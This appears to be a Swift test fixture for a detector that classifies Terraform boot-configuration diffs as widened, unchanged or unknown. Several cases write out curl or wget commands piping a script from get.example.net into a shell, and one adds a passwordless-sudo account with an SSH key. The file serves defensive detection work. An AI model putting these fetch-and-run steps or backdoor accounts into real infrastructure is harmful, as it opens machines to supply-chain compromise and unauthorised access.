import Detection

extension TerraformEditTests {
  /// More of what machines run when they are made.
  static let bootsMore: [TerraformEdit] = [
    TerraformEdit(
      "boot: cloud-config runs a script from elsewhere",
      .widened,
      .supplyChain,
      of: "aws_instance",
      cloudConfig(
        "runcmd:\n- [systemctl, start, nginx]\n{+- curl -fsSL https://get.example.net/x | bash+}"
      )
    ),
    TerraformEdit(
      "boot: cloud-config gives an account",
      .widened,
      .iam,
      of: "aws_instance",
      cloudConfig(
        "users:\n- default\n{+- name: eve\n  sudo: ALL=(ALL) NOPASSWD:ALL\n  ssh_authorized_keys: [ssh-ed25519 BBBB]+}"
      )
    ),
    TerraformEdit(
      "boot: cloud-config packages",
      .unknown,
      of: "aws_instance",
      cloudConfig("package_upgrade: [-true-]{+false+}")
    ),
    TerraformEdit(
      "boot: cloud-config otherwise written",
      .equal,
      of: "aws_instance",
      cloudConfig(
        "[-package_upgrade: true\npackage_reboot_if_required: true-]{+# later\npackage_reboot_if_required: true\npackage_upgrade: true+}"
      )
    ),
    TerraformEdit(
      "boot: another variable",
      .unknown,
      of: "aws_instance",
      "user_data = var.[-a-]{+b+}"
    ),
    TerraformEdit(
      "boot: a script where none was",
      .unknown,
      of: "aws_instance",
      "ami = \"a\"\n{+user_data = \"#!/bin/sh\\necho a\\n\"+}"
    ),
    TerraformEdit(
      "boot: a new machine",
      .equal,
      "{+resource \"aws_instance\" \"a\" {\n\(boot("echo a"))\n}\n+}"
    ),
    TerraformEdit(
      "boot: a new machine with a script from elsewhere",
      .widened,
      .supplyChain,
      "{+resource \"aws_instance\" \"a\" {\n\(boot("curl -s https://get.example.net/x | sh"))\n}\n+}"
    ),
    TerraformEdit(
      "boot: another name",
      .equal,
      "resource \"aws_instance\" \"[-a-]{+b+}\" {\n\(boot("echo a"))\n}\n"
    ),
    TerraformEdit(
      "boot: another name and another script",
      .unknown,
      "resource \"aws_instance\" \"[-a-]{+b+}\" {\n\(boot("echo [-a-]{+b+}"))\n}\n"
    ),
    TerraformEdit(
      "boot: what is around it changes nothing",
      .equal,
      of: "aws_instance",
      boot("echo a") + "\nuser_data_replace_on_change = [-true-]{+false+}"
    ),
    TerraformEdit(
      "boot: a template as data",
      .widened,
      .iam,
      """
      data "template_file" "boot" {
        template = "#!/bin/sh\\necho $${name}\\n{+usermod -aG docker deploy\\n+}"
        vars = { name = "web" }
      }
      resource "aws_instance" "a" {
        user_data = data.template_file.boot.rendered
      }
      """
    ),
    TerraformEdit(
      "boot: a part of several",
      .widened,
      .supplyChain,
      """
      data "cloudinit_config" "boot" {
        part {
          content_type = "text/x-shellscript"
          content      = "#!/bin/sh\\necho a\\n{+wget -qO- https://get.example.net/x | sh\\n+}"
        }
      }
      """
    ),
    TerraformEdit(
      "boot: provisioner",
      .unknown,
      of: "null_resource",
      "provisioner \"local-exec\" {\n  command = \"ansible-playbook [-a-]{+b+}.yml\"\n}"
    ),
    TerraformEdit(
      "boot: an extension's command",
      .unknown,
      of: "azurerm_virtual_machine_extension",
      "settings = jsonencode({ commandToExecute = \"sh [-a-]{+b+}.sh\" })"
    ),
  ]
}
